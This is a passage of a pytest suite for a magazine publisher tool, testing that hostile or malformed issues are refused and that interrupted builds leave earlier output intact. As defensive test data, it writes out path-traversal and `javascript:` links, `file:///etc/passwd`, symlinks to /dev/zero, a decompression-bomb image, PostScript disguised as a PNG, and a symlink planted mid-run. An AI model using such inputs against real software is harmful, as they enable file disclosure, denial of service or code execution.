        f"yaml-escapes/articles/10-a.md:4:29: control character U+0000 (NUL) {CANNOT_PRINT}",
        f"yaml-escapes/articles/20-b.md:3:16: paragraph separator U+2029 {CANNOT_PRINT}",
        f"yaml-escapes/articles/30-c.md:4:11: {PRIVATE_USE.format('E000')}",
        f"yaml-escapes/articles/40-d.md:3:11: {PRIVATE_USE.format('E000')}",
        f"yaml-escapes/articles/40-d.md:6:3: {PRIVATE_USE.format('E001')}",
        # Bytes were taken for text, unchecked: the ESC broke the EPUB with a traceback.
        "yaml-escapes/articles/50-e.md:5: YAML: `!!binary` gives bytes, not text: write the "
        "text itself",
        f"yaml-escapes/issue.yaml:1:11: control character U+001B (ESC) {CANNOT_PRINT}",
    ],
    # Options in braces would hide a link's or a code span's text, or reach the outputs' HTML.
    "option-braces": [
        "option-braces/articles/10-good.md:10: `{style=…}` after a link: only a picture takes "
        "options in braces; delete them",
        "option-braces/articles/10-good.md:12: `{hidden=…}` after a `code` span: only a picture "
        "takes options in braces; delete them",
    ],
    "bad-links": [
        "bad-links/articles/10-a.md:8: link `30-next.md`: no such item in the issue",
        f"bad-links/articles/10-a.md:10: link `/etc/passwd`: {WEB_ONLY}",
        f"bad-links/articles/10-a.md:12: link `../../secret.txt`: {WEB_ONLY}",
        f"bad-links/articles/10-a.md:14: link `#nowhere`: {WEB_ONLY}",
        "bad-links/articles/10-a.md:16: link `https://example.org/a b`: has a space in it: "
        "write it as %20",
        f"bad-links/articles/10-a.md:18: link `javascript:alert(1)`: {WEB_ONLY}",
        "bad-links/articles/10-a.md:20: image `file:///etc/passwd` must be a file in the issue "
        "folder, named relative to the article",
    ],
    # Printed as text, tags and all; a picture inside a sentence was neither packed into the
    # EPUB nor found where the loader had checked it.
    "raw-html": [
        f"raw-html/articles/10-a.md:6: raw HTML `<b>`: {RAW_HTML}",
        f"raw-html/articles/10-a.md:8: raw HTML `<div>`: {RAW_HTML}",
        f"raw-html/articles/10-a.md:10: raw HTML `<!-- 注 -->`: {RAW_HTML}",
        "raw-html/articles/10-a.md:12: picture `images/photo.png` inside a paragraph's text: a "
        "picture stands alone in its paragraph, as a figure with its caption",
        # In a heading it was taken for a figure, and printed from where the loader had not looked.
        "raw-html/articles/10-a.md:16: picture `images/photo.png` inside a paragraph's text: a "
        "picture stands alone in its paragraph, as a figure with its caption",
        # Over several lines, a comment was printed: an editor's note reached the printer.
        f"raw-html/articles/10-a.md:19: raw HTML `<!-- 编辑的话 …`: {RAW_HTML}",
    ],
    "bad-pictures": [
        "bad-pictures/articles/10-a.md:6: image `images/cut.jpg` is damaged (image file is "
        "truncated (114 bytes not processed)): export it again",
        "bad-pictures/articles/10-a.md:8: image `images/bomb.png` has too many pixels to decode "
        "safely: scale it down",
    ],
    "yaml-deep": [
        "yaml-deep/articles/10-a.md:2: YAML nested too deeply: write plain `key: value` lines",
    ],
    "yaml-colon-title": [
        "yaml-colon-title/articles/10-a.md:3: YAML: `: ` inside a value starts a new field: put "
        'the title in quotes, title: "学习: 体会"',
    ],
    "all-at-once": [
        "all-at-once/articles/10-a.md:4: unknown field `subtitel`: did you mean `subtitle`?",
        "all-at-once/articles/10-a.md:5: `kind`: `story` is not one of article, brief, "
        "editorial, editor_note, box or back_cover",
        "all-at-once/articles/10-a.md:10: missing image `images/nowhere.jpg`",
    ],
    "bad-font": [
        "bad-font/fonts/fonts.yaml:3: role `serif`: `broken.ttf` is not a font file that can be "
        "read",
    ],
}


@pytest.mark.parametrize("command", ["validate", "build"])
@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_a_hostile_issue_is_refused_line_by_line(workdir, capsys, name, command):
    hostile(workdir, name)
    assert refused(capsys, command, name) == [
        *HOSTILE[name], f"publisher: {len(HOSTILE[name])} problem(s) found"]


def test_an_article_must_be_a_regular_file_in_the_issue(workdir, capsys):
    root = hostile(workdir, "special-files", base="good-minimal")
    articles = root / "articles"
    (workdir / "outside.md").write_text("---\ncolumn: yaowen\n---\n\n外面的文件。\n",
                                        encoding="utf-8")
    os.mkfifo(articles / "30-fifo.md")  # validate used to wait for a writer forever
    (articles / "40-zero.md").symlink_to("/dev/zero")  # and this read until memory ran out
    (articles / "50-out.md").symlink_to(workdir / "outside.md")
    with open(articles / "60-huge.md", "wb") as huge:
        huge.truncate(33 * 2**20)
    assert refused(capsys, "validate", "special-files") == [
        "special-files/articles/30-fifo.md: not a regular file (a pipe, device or folder): "
        "not read",
        "special-files/articles/40-zero.md: is a link to /dev/zero, outside the issue folder",
        f"special-files/articles/50-out.md: is a link to {workdir / 'outside.md'}, outside the "
        "issue folder",
        "special-files/articles/60-huge.md: larger than 32 MiB: not read",
        "publisher: 4 problem(s) found",
    ]


PROGRAMS_RUN = """
import json, sys
ran = []
sys.addaudithook(lambda event, args: event == "subprocess.Popen" and ran.append(str(args[0])))
from publisher.cli import main
main(["validate", sys.argv[1]])
print(json.dumps(ran))
"""


@pytest.mark.parametrize("link", ["articles/30-loop.md", "articles/images/photo.png",
                                  "layouts/print.css", "layouts", "fonts"])
@pytest.mark.parametrize("command", ["validate", "build"])
def test_a_link_that_leads_back_to_itself_is_one_line(workdir, capsys, link, command):
    """pathlib raises RuntimeError on a loop of links (Python 3.11, 3.12): a traceback."""
    root = hostile(workdir, "link-loop", base="good-minimal")
    looping = root / link
    if looping.exists():
        looping.unlink()
    looping.parent.mkdir(parents=True, exist_ok=True)
    looping.symlink_to(looping.name)
    assert refused(capsys, command, "link-loop") == [
        f"{looping}: a link that leads back to itself (a loop of links): not read"]


def test_postscript_named_as_a_picture_runs_no_program():
    """Pillow picks its decoder from a file's contents, and decodes PostScript with
    Ghostscript: a picture is read only as the kind its name says."""
    done = subprocess.run([sys.executable, "-c", PROGRAMS_RUN, str(ROOTS / "bad-images")],
                          capture_output=True, text=True, cwd=ROOT)
    assert "images/c.png` is not a PNG picture" in done.stderr
    assert not [program for program in json.loads(done.stdout) if Path(program).name == "gs"]


def test_a_picture_must_be_a_regular_file(workdir, capsys):
    root = hostile(workdir, "picture-fifo", base="good-minimal")
    picture = root / "articles" / "images" / "photo.png"
    picture.unlink()
    os.mkfifo(picture)
    assert refused(capsys, "build", "picture-fifo") == [
        "picture-fifo/articles/20-figure.md:13: image `images/photo.png`: not a regular file "
        "(a pipe, device or folder): not read",
        "publisher: 1 problem(s) found",
    ]


def test_a_font_file_must_be_in_the_fonts_folder(workdir, capsys):
    root = hostile(workdir, "font-outside", base="bad-font")
    (root / "fonts" / "fonts.yaml").write_text(
        f"serif:\n  family: Elsewhere\n  files: {{400: {ROOT / 'LICENSE'}}}\n", encoding="utf-8")
    assert refused(capsys, "validate", "font-outside") == [
        f"font-outside/fonts/fonts.yaml:3: role `serif`: font file `{ROOT / 'LICENSE'}` is "
        "outside font-outside/fonts: put it there",
        "publisher: 1 problem(s) found",
    ]


def test_pillow_warnings_are_the_tools_own(workdir, caplog, monkeypatch):
    import PIL.Image

    from publisher.source.load import load_issue

    hostile(workdir, "large-picture", base="good-minimal")
    # Pillow warns over MAX_IMAGE_PIXELS and refuses over twice as many; the photo has 48.
    monkeypatch.setattr(PIL.Image, "MAX_IMAGE_PIXELS", 40)
    load_issue("large-picture")
    assert caplog.messages == [
        "large-picture/articles/20-figure.md:13: image `images/photo.png` is very large: it may "
        "be a decompression bomb; scale it down"]


# ------------------------------------------------------------------- the command and the disk

# A build that stops after writing its EPUB's temporary file, until a signal comes; it prints
# `ready` then. (The EPUB is the quicker output to get to that point; the PDF is staged alike.)
STALLED_BUILD = """
import sys, time
import publisher.epub

def stalled(path, *args):
    print("ready", flush=True)
    time.sleep(120)

publisher.epub.normalise_zip = stalled
from publisher.cli import main
sys.exit(main(sys.argv[1:]))
"""


@pytest.mark.parametrize(("signal_number", "code", "said"), [
    (signal.SIGTERM, 143, "publisher: stopped (SIGTERM)"),
    (signal.SIGINT, 130, "publisher: stopped (Ctrl-C)"),
    (signal.SIGKILL, -signal.SIGKILL, ""),
])
def test_a_build_stopped_half_way_leaves_the_previous_output(workdir, signal_number, code,
                                                             said):
    from publisher.output import atomic_output

    # An empty build cache of its own: a cached EPUB would be copied, never written.
    # Ctrl-C reaches a build run from a terminal: where the tests run in the background, they
    # inherit SIGINT ignored, and so would the build.
    build = subprocess.Popen(
        [sys.executable, "-c", STALLED_BUILD, "-q", "build", str(ROOTS / "good-minimal"),
         "-o", "out", "--epub"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PUBLISHER_CACHE": str(workdir / "cache")},
        preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    assert build.stdout.readline() == "ready\n"
    (part,) = (workdir / "out").glob(".2015-10.epub.*.part")
    assert part.stat().st_size > 0
    build.send_signal(signal_number)
    assert build.wait(timeout=60) == code
    # Its helper processes (section workers, jieba's) end with it: none holds its stderr open.
    _, stderr = build.communicate(timeout=30)
    assert stderr.strip() == said
    if signal_number == signal.SIGKILL:
        # Nothing can clean up after kill -9: the next build of that output does.
        assert part.exists()
        with atomic_output(workdir / "out" / "2015-10.epub") as tmp:
            tmp.write_bytes(b"the next build's EPUB")
    written = ["2015-10.epub"] if signal_number == signal.SIGKILL else []
    assert sorted(os.listdir(workdir / "out")) == [*written, "2015-10.pdf"]
    assert (workdir / "out" / "2015-10.pdf").read_bytes() == PREVIOUS


def test_a_killed_builds_helpers_end_before_it_is_collected(workdir):
    # Stalled making its EPUB, while a section worker lays out the furniture and jieba's
    # process and the workers' server wait: all of them hold its stderr. A reader that waits
    # for the end of the output before it collects the build must get it.
    build = subprocess.Popen(
        [sys.executable, "-c", STALLED_BUILD, "-q", "build", str(ROOTS / "good-minimal"),
         "-o", "out"], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True,
        env={**os.environ, "PUBLISHER_CACHE": str(workdir / "cache"), "PUBLISHER_WORKERS": "2"})
    try:
        assert build.stdout.readline() == "ready\n"
        helpers = subprocess.run(["ps", "-o", "pid=", "--ppid", str(build.pid)],
                                 capture_output=True, text=True, check=True).stdout.split()
        assert len(helpers) >= 2  # jieba's process, the workers' server (and the tracker)
        build.kill()
        _, stderr = build.communicate(timeout=30)
        assert build.returncode == -signal.SIGKILL and stderr == ""
    finally:
        build.kill()
        build.wait()


def test_a_full_disk_is_one_line(workdir, capsys, monkeypatch):
    import publisher.epub

    def full(*args, **kwargs):
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(publisher.epub, "normalise_zip", full)
    hostile(workdir, "good-minimal")
    assert refused(capsys, "build", "good-minimal", "--epub") == [
        "out: cannot write here: No space left on device"]


def test_an_output_that_is_a_folder_is_one_line(workdir, capsys):
    hostile(workdir, "good-minimal")
    (workdir / "out" / "2015-10.epub").mkdir()
    assert main(["build", "good-minimal", "-o", "out", "--epub"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "out/2015-10.epub: is a folder: the output cannot be written here"]
    assert sorted(os.listdir("out")) == ["2015-10.epub", "2015-10.pdf"]


def test_a_bug_keeps_its_traceback(workdir, monkeypatch):
    import publisher.build

    def broken(*args, **kwargs):
        raise ZeroDivisionError("a bug")

    monkeypatch.setattr(publisher.build, "build", broken)
    with pytest.raises(ZeroDivisionError):
        main(["build", "good-minimal", "-o", "out"])


def test_check_says_when_there_is_nothing_to_measure(workdir, capsys):
    from weasyprint import HTML

    HTML(string="<p></p>").write_pdf(workdir / "empty.pdf")
    assert main(["check", "empty.pdf"]) == 1
    assert capsys.readouterr().err.splitlines() == ["empty.pdf: no body text: nothing to measure"]


def test_review_notes_are_warnings_and_strict_refuses_them(workdir, capsys):
    root = hostile(workdir, "review-notes", base="good-minimal")
    article = root / "articles" / "10-good.md"
    article.write_text(article.read_text(encoding="utf-8").replace(
        "byline: 张三\n", "byline: 张三\nreview: [标题在别处找到, 简讯可能截断]\n"),
        encoding="utf-8")
    notes = ["review-notes/articles/10-good.md:6: warning: to review: 标题在别处找到",
             "review-notes/articles/10-good.md:6: warning: to review: 简讯可能截断"]
    assert main(["validate", "review-notes"]) == 0
    printed = capsys.readouterr()
    assert printed.err.splitlines() == notes
    assert printed.out == "review-notes: 2 items in 2 columns, no errors, 2 to review\n"
    for command in (["validate", "--strict"], ["build", "--strict"]):
        assert refused(capsys, *command, "review-notes") == [*notes, (
            "publisher: 2 review note(s) left: check those items, remove the notes, then build "
            "(--strict)")]


# ------------------------------------------------------------------- import-text

def test_import_text_into_an_articles_file_is_one_line(workdir, capsys):
    (workdir / "issue").mkdir()
    (workdir / "issue" / "articles").write_text("not a folder", encoding="utf-8")
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--magazine", "共产党人"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "issue/articles: is a file: an issue keeps its articles in a folder of that name"]
    assert sorted(os.listdir(workdir / "issue")) == ["articles"]


def test_import_text_writes_all_or_nothing(workdir, capsys, monkeypatch):
    real = os.open

    def unwritable_articles(path, *args, **kwargs):
        if Path(path).parent.name == "articles" and Path(path).parent.parent.name == "issue":
            raise PermissionError(errno.EACCES, os.strerror(errno.EACCES), str(path))
        return real(path, *args, **kwargs)

    monkeypatch.setattr(os, "open", unwritable_articles)
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--magazine", "共产党人"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "issue/articles: cannot write here: Permission denied; nothing was written"]
    assert [p.name for p in (workdir / "issue").rglob("*")] == ["articles"]


THROUGH_A_LINK = ("is a link: the import writes and deletes only the issue folder's own files, "
                  "never through a link; delete the link")


# import-briefs gives 10-brief.md, 20-brief.md and 30-brief.md; 90-old.md is an earlier import's.
@pytest.mark.parametrize("planted", [
    "articles", "issue.yaml", ".issue.yaml.import.part", "articles/10-brief.md",
    "articles/.10-brief.md.import.part", "articles/90-old.md"])
def test_import_text_writes_and_deletes_nothing_through_a_link(workdir, capsys, planted):
    elsewhere = workdir / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.md").write_text("precious", encoding="utf-8")
    issue = workdir / "issue"
    issue.mkdir()
    if planted != "articles":
        (issue / "articles").mkdir()
    (issue / planted).symlink_to(elsewhere if planted == "articles" else elsewhere / "keep.md")
    before = sorted(issue.rglob("*"))
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--force", "--magazine", "共产党人"]) == 1
    assert capsys.readouterr().err.splitlines() == [f"issue/{planted}: {THROUGH_A_LINK}"]
    assert [p.name for p in elsewhere.iterdir()] == ["keep.md"]
    assert (elsewhere / "keep.md").read_text(encoding="utf-8") == "precious"
    assert sorted(issue.rglob("*")) == before


def test_import_text_does_not_follow_a_link_planted_while_it_runs(workdir, monkeypatch):
    from publisher.importer import write

    (workdir / "elsewhere.yaml").write_text("precious", encoding="utf-8")
    check_loads = write._check_loads

    def plant_then_check(out, *args):
        (out / ".issue.yaml.import.part").symlink_to(workdir / "elsewhere.yaml")
        check_loads(out, *args)

    monkeypatch.setattr(write, "_check_loads", plant_then_check)
    (workdir / "issue").mkdir()
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--magazine", "共产党人"]) == 0
    assert (workdir / "elsewhere.yaml").read_text(encoding="utf-8") == "precious"
    manifest = workdir / "issue" / "issue.yaml"
    assert not manifest.is_symlink()
    assert "magazine: 共产党人" in manifest.read_text(encoding="utf-8")
    assert sorted(os.listdir(workdir / "issue")) == ["articles", "issue.yaml"]


def test_import_text_refuses_a_folder_where_it_replaces_a_file(workdir, capsys):
    (workdir / "issue" / "articles" / "90-old.md").mkdir(parents=True)
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--force", "--magazine", "共产党人"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "issue/articles/90-old.md: not a regular file (a pipe, device or folder): the import "
        "would replace it; move it away"]
    assert [p.name for p in (workdir / "issue").rglob("*")] == ["articles", "90-old.md"]


def test_import_text_names_the_texts_problem(workdir, capsys):
    text = (ROOTS / "import-briefs" / "text.txt").read_text(encoding="utf-8")
    cut = text.index("。")
    (workdir / "bad.txt").write_text(text[:cut] + "\x1b" + text[cut:], encoding="utf-8")
    assert main(["import-text", "bad.txt", "-o", "issue", "--magazine", "共产党人"]) == 1
    line, column = text.count("\n", 0, cut) + 1, cut - text.rfind("\n", 0, cut)
    # At the text's line, which the editor corrects, not that of a source never written.
    assert capsys.readouterr().err.splitlines() == [
        f"bad.txt:{line}:{column}: control character U+001B (ESC) cannot be printed: delete it"]
    assert sorted(os.listdir(workdir)) == ["bad.txt", "out"]


def test_import_text_refuses_a_masthead_no_page_can_carry(workdir, capsys):
    text = str(ROOTS / "import-briefs" / "text.txt")
    assert main(["import-text", text, "-o", "issue", "--magazine", "共产\x1b党人"]) == 1
    assert capsys.readouterr().err.splitlines() == [
        "--magazine: control character U+001B (ESC) cannot be printed: delete it"]
    assert not (workdir / "issue").exists()


def test_fonts_yaml_linked_from_elsewhere_is_not_read(workdir, capsys):
    root = hostile(workdir, "fonts-linked", base="good-minimal")
    (root / "fonts").mkdir()
    (workdir / "elsewhere.yaml").write_text("serif: {family: [\n", encoding="utf-8")
    (root / "fonts" / "fonts.yaml").symlink_to(workdir / "elsewhere.yaml")
    assert refused(capsys, "validate", "fonts-linked") == [
        f"fonts-linked/fonts/fonts.yaml: is a link to {workdir / 'elsewhere.yaml'}, outside the "
        "issue folder",
        "publisher: 1 problem(s) found",
    ]


def test_import_text_counts_lines_as_editors_do(workdir, capsys):
    """A form feed (pdftotext's page break) starts no line of its own: line numbers in the
    summary are those an editor's `\\n`-counting editor shows."""
    text = (ROOTS / "import-displaced-title" / "text.txt").read_text(encoding="utf-8")
    lines = text.split("\n")
    lines[0] = "\f" + lines[0]
    (workdir / "paged.txt").write_text("\n".join(lines), encoding="utf-8")
    assert main(["import-text", "paged.txt", "-o", "issue"]) == 0
    title_line = lines.index("联合党委聚合力 激励关怀增动力") + 1
    assert f"title block found at line {title_line}, " in capsys.readouterr().out


def test_an_issue_is_its_folder_not_its_manifest(workdir, capsys):
    hostile(workdir, "good-minimal")
    assert refused(capsys, "validate", "good-minimal/issue.yaml") == [
        "good-minimal/issue.yaml: not a folder: an issue is the folder that holds issue.yaml",
        "publisher: 1 problem(s) found"]


# A worker that cannot start: what it is handed fails to unpickle, as the lock of a build that
# was stopped while its workers started (the build has removed it).
UNSTARTED_WORKER = """
import sys
from publisher import processes

def gone():
    raise FileNotFoundError("the build removed it")

class Removed:
    def __reduce__(self):
        return gone, ()

if __name__ == "__main__":
    worker = processes.layout_server().Process(target=print, args=(Removed(),))
    worker.start()
    worker.join()
    print(worker.exitcode)
"""


def test_a_worker_that_cannot_start_ends_without_a_traceback(tmp_path):
    script = tmp_path / "unstarted.py"
    script.write_text(UNSTARTED_WORKER, encoding="utf-8")
    done = subprocess.run([sys.executable, str(script)], capture_output=True, text=True,
                          check=True, cwd=ROOT, timeout=120)
    assert done.stdout == "1\n"
    assert done.stderr == ""


def test_a_stylesheet_that_imports_itself_stops_the_build(workdir, capsys):
    """WeasyPrint followed the loop to Python's recursion limit for minutes, left the
    stylesheet out, and the build wrote an unstyled PDF with exit status 0."""
    css = overridden(workdir, "css-imports-itself", "print.css", 1, '@import "print.css";')
    assert refused(capsys, "build", "css-imports-itself", "--pdf") == [
        f"{css.relative_to(workdir)}:1: a layout refers to {css.resolve().as_uri()}: it imports "
        "itself, in a loop of @import"]


def test_a_layouts_picture_that_does_not_load_stops_the_build(workdir, capsys):
    """A `data:` picture is not fetched as a file: one that WeasyPrint cannot read was left out
    of the page, with WeasyPrint's error and exit status 0."""
    url = "data:image/png;base64,JSFQUy1BZG9iZS0zLjA="  # PostScript, named a PNG
    layout = overridden(workdir, "layout-data-picture", "partials/inside-front-cover.html.j2", 1,
                        f'<img src="{url}" style="width: 50mm"/>')
    assert refused(capsys, "build", "layout-data-picture", "--pdf") == [
        f"{layout.relative_to(workdir)}:1: a layout refers to {url}: WeasyPrint could not read it"]
